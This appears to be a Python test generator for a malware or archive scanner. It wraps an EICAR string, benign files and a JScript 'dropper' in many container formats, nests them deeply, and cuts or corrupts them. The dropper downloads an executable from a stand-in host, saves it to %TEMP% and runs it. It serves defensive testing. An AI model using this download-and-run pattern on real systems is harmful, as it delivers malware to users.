"""The test file, a dropper and honest files in every container; nested; cut short; damaged."""

from cases import EICAR, NOTE, case, noise
from containers import ALL, CHECKSUMMED, ENDLESS, MEMBERS, STREAMS
from plain import plain

DROPPER = plain("""var s = new Active·XObject("WScr·ipt.Shell"), x = new Active·XObject("MSX·ML2.XML·HTTP");
x.open("GET", "http://example.com/a.exe", false); x.send();
var d = new Active·XObject("ADO·DB.Stream"); d.Type = 1; d.Open(); d.Write(x.responseBody);
d.SaveTo·File(s.ExpandEnvironmentStrings("%TEMP%") + "\\\\a.exe", 2); s.Run("%TEMP%\\\\a.exe");
""").encode()

for kind, make in ALL.items():
    case("EICAR in a container", "infected", kind, make({"eicar.com": EICAR, "note.txt": NOTE}))
    case("dropper in a container", "found", kind, make({"order.js": DROPPER, "note.txt": NOTE}))
    case("honest container", "clean", kind, make({"note.txt": NOTE, "data.bin": noise(3000), "letter.txt": b"Dear Anna\n"}))

for kind, make in MEMBERS.items():
    case("EICAR in a container", "infected", f"{kind}, last of 30", make({**{f"n{at:02}.txt": NOTE for at in range(29)}, "z.com": EICAR}))

OUTER = ("zip-deflate", "7z-lzma2", "tar-gz", "mail-python", "iso-joliet-rock", "cab-mszip", "xz")
for kind, make in ALL.items():
    inner = make({"eicar.com": EICAR, "note.txt": NOTE})
    for outer in OUTER[:3] if kind in STREAMS else OUTER:
        case("EICAR in a container in a container", "infected", f"{kind} in {outer}", ALL[outer]({f"inner-{kind}": inner}))

CHAIN = ("zip-deflate", "tar-ustar", "gz", "7z-lzma2", "cpio-newc", "bz2", "cab-mszip", "xz", "mail-python", "zst", "ar", "lz4")
for depth in (3, 5, 8, 12, 16):
    content = EICAR
    for at in range(depth):
        content = ALL[CHAIN[at % len(CHAIN)]]({"inner": content})
    case("EICAR nested deep", "infected", f"{depth} layers of mixed kinds", content)
for kind in ("zip-deflate", "gz", "tar-pax"):
    for depth, expected in ((17, "stopped"), (40, "stopped")):
        content = EICAR
        for _ in range(depth):
            content = ALL[kind]({"inner": content})
        case("nested too deep", expected, f"{depth} layers of {kind}", content)

PAYLOAD = {"note.txt": NOTE, "data.bin": noise(60_000, 2)}
SINGLE = {"data.bin": noise(60_000, 2)}
for kind, make in ALL.items():
    whole = make(SINGLE if kind in STREAMS else PAYLOAD)
    if kind not in ENDLESS:
        start = whole.find(SINGLE["data.bin"][:64])
        cut = len(whole) * 6 // 10 if start < 0 else start + 30_000
        case("cut short", "stopped", kind, whole[:cut])
    if kind in CHECKSUMMED:
        at = len(whole) // 2
        case("damaged", "stopped", kind, whole[:at] + bytes(byte ^ 0x55 for byte in whole[at : at + 32]) + whole[at + 32 :])
